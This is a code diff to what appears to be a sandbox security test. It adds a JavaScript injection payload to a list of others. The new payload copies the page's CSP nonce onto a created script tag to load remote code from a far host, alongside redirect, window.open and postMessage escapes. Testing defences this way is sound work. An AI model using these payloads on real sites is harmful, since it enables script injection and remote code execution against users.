@@ -29,6 +29,9 @@ def payload(name: str) -> str:
         f"window.open(`{FAR}/pwned/{name}`)",
         f"parent.postMessage({{oxusHeight:`1e9`,name:`{name}`}},`*`)",
         f"top.location=`{FAR}/pwned/{name}`",
+        # A script from elsewhere, with the page's own number.
+        f"const s=document.createElement(`script`);s.nonce=document.currentScript.nonce;s.src=`{FAR}/pwned/{name}`;"
+        "document.head.append(s)",
         f"alert(`{name}`)",
         f"location=`{FAR}/pwned/{name}`",
     ]
